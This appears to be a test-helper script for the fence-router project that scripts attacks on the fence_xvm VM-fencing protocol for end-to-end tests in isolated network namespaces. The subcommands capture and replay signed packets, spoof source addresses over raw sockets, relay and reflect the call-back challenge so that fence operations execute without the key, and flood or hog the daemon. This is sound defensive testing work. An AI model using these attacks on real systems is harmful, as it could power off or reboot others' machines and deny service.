#!/usr/bin/python3
"""Scripted attackers on the guests' network, for fence-router's end-to-end tests only.

Each subcommand is one attacker of Docs/security.md, run by a test inside a network namespace
that the test created; nothing here is ever pointed at a real network. Standard library only,
for Debian's /usr/bin/python3. Every line it prints is flushed, so a test can wait for it.
"""
import argparse
import hashlib
import os
import select
import socket
import struct
import sys
import time

LENGTH = 176
DIGESTS = {1: hashlib.sha1, 2: hashlib.sha256, 3: hashlib.sha512}
OPERATIONS = {"null": 0, "off": 1, "reboot": 2, "on": 3, "status": 4, "monitor": 5, "list": 6}


def say(*words):
    print(*words, flush=True)


def callback_address(packet):
    return socket.inet_ntoa(packet[68:72])


def load(path):
    with open(path) as lines:
        return [bytes.fromhex(line.strip()) for line in lines if line.strip()]


def sender(source=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
    if source:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        sock.bind((source, 0))
    return sock


def read_exactly(sock, count, deadline):
    data = b""
    while len(data) < count:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise TimeoutError(f"read {len(data)} of {count} bytes")
        sock.settimeout(remaining)
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError(f"closed after {len(data)} of {count} bytes")
        data += chunk
    return data


def sign(packet, key):
    """Signs as fence_xvm does: fresh random bytes, then HASH(key || packet with a zero hash)."""
    hashtype = packet[1]
    packet[98:104] = os.urandom(6)
    packet[112:176] = bytes(64)
    digest = DIGESTS[hashtype](key + bytes(packet)).digest()
    packet[112:112 + len(digest)] = digest


def build(operation, domain, address, port, seqno, hashtype=2):
    packet = bytearray(LENGTH)
    packet[0] = operation
    packet[1] = hashtype
    packet[2] = 4
    name = domain.encode()
    packet[4:4 + len(name)] = name
    packet[68:72] = socket.inet_aton(address)
    struct.pack_into("<H", packet, 96, port)
    struct.pack_into("<I", packet, 104, seqno)
    struct.pack_into("<I", packet, 108, 2)
    return packet


def record(args):
    """A passive observer: keeps every fence_xvm datagram seen on the group."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", args.port))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(args.group) + socket.inet_aton("0.0.0.0"))
    say("recording")
    kept = 0
    deadline = time.monotonic() + args.timeout
    with open(args.out, "w") as out:
        while kept < args.count:
            remaining = deadline - time.monotonic()
            if remaining <= 0 or not select.select([sock], [], [], remaining)[0]:
                break
            data, source = sock.recvfrom(2048)
            if len(data) != LENGTH or (args.op is not None and data[0] != OPERATIONS[args.op]):
                continue
            out.write(data.hex() + "\n")
            out.flush()
            kept += 1
            say(f"recorded op={data[0]} from={source[0]} callback={callback_address(data)}")
    say(f"recorded {kept}")


def spoofed(packet, source, group, port):
    """An IPv4 datagram from `source` (which this host does not own) to the group, TTL 2."""
    udp = struct.pack("!HHHH", port, port, 8 + len(packet), 0) + packet
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 2, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(group))
    return header + udp


def replay(args):
    """Sends captured datagrams again, over and over, without the key; with --spoof, each from
    the address its packet names, as the client's own copy would come."""
    packets = load(args.packets)
    if args.spoof:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        datagrams = [(spoofed(packet, callback_address(packet), args.group, args.port), (args.group, 0)) for packet in packets]
    else:
        sock = sender(args.source)
        datagrams = [(packet, (args.group, args.port)) for packet in packets]
    say(f"replaying {len(packets)}")
    sent = 0
    deadline = time.monotonic() + args.duration
    while time.monotonic() < deadline:
        for datagram, destination in datagrams:
            sock.sendto(datagram, destination)
            sent += 1
        time.sleep(args.interval)
    say(f"replayed {sent}")


def relay(args):
    """Holds the call-back address of a captured packet: takes the victim's connection first,
    replays the packet so that the daemon calls back here, and relays the exchange between them."""
    deadline = time.monotonic() + args.duration
    victim = None
    say("waiting for the victim")
    while time.monotonic() < deadline:
        attempt = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            attempt.connect((args.victim, args.port))
            victim = attempt
            break
        except OSError:
            attempt.close()
    if victim is None:
        say("the victim never listened")
        return 1
    say("connected to the victim")
    c1 = read_exactly(victim, 64, deadline)
    say("have the victim's challenge")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", args.port))
    listener.listen(8)
    packets = load(args.packets)
    sock = sender()
    daemon = None
    while daemon is None and time.monotonic() < deadline:
        for packet in packets:
            sock.sendto(packet, (args.group, args.port))
        if select.select([listener], [], [], 0.05)[0]:
            daemon, _ = listener.accept()
    if daemon is None:
        say("no call-back came")
        return 1
    say("called back by the daemon")
    try:
        daemon.sendall(c1)
        answer = read_exactly(daemon, 128, deadline)
        victim.sendall(answer)
        r2 = read_exactly(victim, 64, deadline)
        daemon.sendall(r2)
        result = read_exactly(daemon, 1, deadline)
        victim.sendall(result)
        say(f"relayed result {result[0]}")
    except (OSError, TimeoutError, ConnectionError) as error:
        say(f"relay failed: {error}")
        return 1
    return 0


def reflect(args):
    """Two call-backs to addresses held here: the daemon's challenge on one conversation is put
    to the daemon as the client's challenge on the other, whose answer then passes the first."""
    packets = {callback_address(packet): packet for packet in load(args.first) if callback_address(packet) == args.first_address}
    packets.update({callback_address(packet): packet for packet in load(args.second) if callback_address(packet) == args.second_address})
    if len(packets) != 2:
        say(f"need one packet for each address, have {sorted(packets)}")
        return 1
    listeners = {}
    for address in packets:
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((address, args.port))
        listener.listen(8)
        listeners[listener] = address
    sock = sender(args.first_address)
    for packet in packets.values():
        sock.sendto(packet, (args.group, args.port))
    deadline = time.monotonic() + args.duration
    conversations = {}
    while len(conversations) < 2 and time.monotonic() < deadline:
        for listener in select.select(list(listeners), [], [], 0.1)[0]:
            conversations[listeners[listener]] = listener.accept()[0]
    if len(conversations) < 2:
        say(f"only {len(conversations)} call-backs came")
        return 1
    first, second = conversations[args.first_address], conversations[args.second_address]
    say("called back twice")
    try:
        first.sendall(os.urandom(64))
        c2 = read_exactly(first, 128, deadline)[64:]
        second.sendall(c2)
        reflected = read_exactly(second, 128, deadline)[:64]
        say("the daemon answered its own challenge")
        first.sendall(reflected)
        result = read_exactly(first, 1, deadline)
        say(f"executed: result {result[0]}")
    except (OSError, TimeoutError, ConnectionError) as error:
        say(f"reflection failed: {error}")
        return 1
    return 0


def flood(args):
    """A guest holding the key signs many different requests with a call-back nobody answers."""
    key = open(args.key, "rb").read()[:4096]
    sock = sender(args.source)
    say("flooding")
    started = time.monotonic()
    for seqno in range(args.count):
        packet = build(OPERATIONS[args.op], args.domain, args.callback, 1229, seqno)
        sign(packet, key)
        sock.sendto(bytes(packet), (args.group, args.port))
        # Paced, so that the daemon's socket buffer takes every one of them.
        if seqno % args.burst == args.burst - 1:
            time.sleep(args.pause)
    say(f"flooded {args.count} in {time.monotonic() - started:.1f} s")


def garbage(args):
    """Someone without the key: well-formed datagrams with a wrong signature."""
    sock = sender(args.source)
    for seqno in range(args.count):
        packet = build(OPERATIONS["off"], "vm1", args.callback, 1229, seqno)
        packet[112:144] = os.urandom(32)
        sock.sendto(bytes(packet), (args.group, args.port))
        if seqno % 500 == 499:
            time.sleep(0.01)
    say(f"sent {args.count}")


def hog(args):
    """A guest holding the key asks to be called back, proves the key, and then, while it should
    only wait for its result, sends far more than any exchange needs."""
    key = open(args.key, "rb").read()[:4096]
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((args.address, 1229))
    listener.listen(1)
    packet = build(OPERATIONS["status"], "vm1", args.address, 1229, 4711)
    sign(packet, key)
    sender(args.address).sendto(bytes(packet), (args.group, args.port))
    if not select.select([listener], [], [], 10)[0]:
        say("no call-back came")
        return 1
    conversation, _ = listener.accept()
    deadline = time.monotonic() + args.duration
    challenge = os.urandom(64)
    conversation.sendall(challenge)
    reply = read_exactly(conversation, 128, deadline)
    if reply[:64] != hashlib.sha256(key + challenge).digest() + bytes(32):
        say("the daemon did not prove the key")
        return 1
    conversation.sendall(hashlib.sha256(key + reply[64:]).digest() + bytes(32))
    say("called back and authenticated")
    chunk = os.urandom(65536)
    sent = 0
    conversation.settimeout(args.duration)
    try:
        while sent < args.bytes and time.monotonic() < deadline:
            sent += conversation.send(chunk)
        say(f"sent {sent} bytes: never stopped")
    except OSError as error:
        say(f"stopped after {sent} bytes: {error}")
    try:
        conversation.settimeout(2)
        result = conversation.recv(1)
        say(f"result {result[0]}" if result else "no result")
    except OSError as error:
        say(f"no result: {error}")
    return 0


def hold(args):
    """Opens many connections to a tcp listener and holds them open, sending nothing."""
    held = []
    for _ in range(args.count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            sock.connect((args.address, args.port))
        except BlockingIOError:
            pass
        except OSError as error:
            say(f"connect failed: {error}")
            break
        held.append(sock)
    say(f"holding {len(held)}")
    time.sleep(args.duration)
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--group", default="225.0.0.12")
    parser.add_argument("--port", type=int, default=1229)
    commands = parser.add_subparsers(dest="command", required=True)

    p = commands.add_parser("record")
    p.add_argument("--out", required=True)
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--op", choices=sorted(OPERATIONS))
    p.add_argument("--timeout", type=float, default=30)
    p.set_defaults(run=record)

    p = commands.add_parser("replay")
    p.add_argument("--packets", required=True)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--interval", type=float, default=0.0002)
    p.add_argument("--source")
    p.add_argument("--spoof", action="store_true")
    p.set_defaults(run=replay)

    p = commands.add_parser("relay")
    p.add_argument("--packets", required=True)
    p.add_argument("--victim", required=True)
    p.add_argument("--duration", type=float, default=15)
    p.set_defaults(run=relay)

    p = commands.add_parser("reflect")
    p.add_argument("--first", required=True, help="packets of the request to have executed")
    p.add_argument("--first-address", required=True)
    p.add_argument("--second", required=True, help="packets of any other request")
    p.add_argument("--second-address", required=True)
    p.add_argument("--duration", type=float, default=10)
    p.set_defaults(run=reflect)

    p = commands.add_parser("flood")
    p.add_argument("--key", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--callback", required=True)
    p.add_argument("--domain", default="vm1")
    p.add_argument("--op", choices=sorted(OPERATIONS), default="status")
    p.add_argument("--source")
    p.add_argument("--burst", type=int, default=200)
    p.add_argument("--pause", type=float, default=0.01)
    p.set_defaults(run=flood)

    p = commands.add_parser("garbage")
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--callback", required=True)
    p.add_argument("--source")
    p.set_defaults(run=garbage)

    p = commands.add_parser("hog")
    p.add_argument("--key", required=True)
    p.add_argument("--address", required=True)
    p.add_argument("--bytes", type=int, default=64 << 20)
    p.add_argument("--duration", type=float, default=8)
    p.set_defaults(run=hog)

    p = commands.add_parser("hold")
    p.add_argument("--address", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--duration", type=float, default=10)
    p.set_defaults(run=hold)

    args = parser.parse_args()
    sys.exit(args.run(args) or 0)


if __name__ == "__main__":
    main()
